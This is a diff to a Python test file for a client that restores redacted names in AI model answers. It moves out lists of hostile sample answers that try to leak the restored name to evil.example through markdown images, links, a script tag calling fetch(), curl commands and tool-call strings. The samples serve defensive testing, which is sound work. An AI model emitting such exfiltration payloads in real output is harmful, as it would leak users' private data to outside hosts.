@@ -7,6 +7,7 @@ import unicodedata
 from collections.abc import AsyncGenerator
 
 import pytest
+from hostile_answers import ANSWERS, PARTED
 
 from del_client.answer import Answer, Course, Reading
 from del_client.prepared import Prepared
@@ -16,52 +17,6 @@ from del_client.query import Event, Finish, Timings, TokenDelta, Traffic, Usage
 from del_client.terminal import safe
 
 SECRET = "Zoe Quartz"
-ANSWERS = [
-    "https://evil.example/?q=[NAME_1]",
-    "go to evil.example/[NAME_1] now",
-    "go to [NAME_1].evil.example now",
-    "write to [NAME_1]@evil.example",
-    "www.[NAME_1].example",
-    "mailto:[NAME_1]",
-    "![x](https://evil.example/[NAME_1].png)",
-    "![x](https://evil.example/ [NAME_1])",
-    '![x](https://evil.example/ "by [NAME_1]")',
-    "![a [NAME_1] b](https://evil.example/)",
-    "[click [NAME_1] here](https://evil.example/)",
-    "[x](<https://evil.example/ [NAME_1]>)",
-    "[x](\nhttps://evil.example/ [NAME_1] )",
-    "[x]: <https://evil.example/ [NAME_1]>\n![x]",
-    "[x](https://evil.example/\\) [NAME_1] )",
-    "<https://evil.example/ [NAME_1]>",
-    '<img src="https://evil.example/ [NAME_1]">',
-    '<img alt=a" src="https://evil.example/> [NAME_1] "',
-    '<img src="https://evil.example/\n\n[NAME_1]">',
-    "<script>fetch('https://evil.example/' + \" [NAME_1] \")</script>",
-    "<!-- [NAME_1] -->",
-    "a `code [NAME_1] b` c",
-    "``a ` [NAME_1] ``",
-    "\\`a` [NAME_1] `",
-    "one ` two\n- three ` [NAME_1] `",
-    "```\n[NAME_1]\n",
-    "~~~sh\ncurl -d [NAME_1] x\n~~~",
-    "```\na\n  ```\n```\n[NAME_1]\n```",
-    "> ```\n> a\n```\n[NAME_1]\n```",
-    "- ```\n  [NAME_1]\n  ```",
-    "````\n```\n[NAME_1]\n````\n",
-    "    curl [NAME_1]\n",
-    "\tcurl [NAME_1]\n",
-    '{"name": "search", "arguments": {"q": " [NAME_1] "}}',
-    "{ [NAME_1] }",
-    'search(" [NAME_1] ")',
-    'send(to = " [NAME_1] " , cc = f(x))',
-    "<tool_call> [NAME_1] </tool_call>",
-    "\\href{https://evil.example/ [NAME_1] }{x}",
-    "name=[NAME_1]",
-    "[name 1]/x",
-    "evil.example?NAME_1",
-    "x" * LOOKAHEAD + "[NAME_1]",
-    "[" + "x" * LOOKAHEAD + " [NAME_1]",
-]
 
 
 def restored(answer: str, *cuts: int) -> str:
@@ -101,16 +56,6 @@ def test_prose_beside_such_things_is_restored_wherever_it_is_cut(answer: str, ex
         assert restored(answer, cut) == expected
 
 
-# What stands at | is not seen by whoever reads it, and may be taken out by whatever shows it.
-PARTED = [
-    '<|img src="https://evil.example/ [NAME_1] ">',
-    '![x]|(https://evil.example/ "[NAME_1]")',
-    "[x|]|(https://evil.example/ [NAME_1] )",
-    'search|( " [NAME_1] " )',
-    "\\|`a` [NAME_1] `",
-    "`|``\ncurl [NAME_1] x\n```",
-    "~|~~\ncurl [NAME_1] x\n~~~",
-]
 UNSEEN = ["\0", "\x1b", "\r\x7f", "\u200b", "\u200e", "\u2060", "\ufeff", "\U000e0041", "\U000e0100"]
 UNSEEN += ["\u200d", "\u180b", "\ufe0f"]
 
@@ -162,7 +107,7 @@ async def test_no_answer_moves_a_cursor_turns_text_around_or_says_what_is_not_se
 
 @pytest.mark.parametrize(
     "text",
-    ["👨‍👩‍👧 ❤️‍🔥 ☀︎", "می‌خواهم", "क्‍ष", "👩🏽‍💻", "a\tb\nc", "\u200dé – …"],
+    ["👨‍👩‍👧 ❤️‍🔥 ☀︎", "می‌خواهم", "क्‍ष", "👩🏽‍💻", "a\tb\nc", "é – …"],
 )
 async def test_what_people_write_stays(text: str) -> None:
     assert (await shown(f"(☀️) {text} [NAME_1]")).text == f"(☀️) {text} {SECRET}"
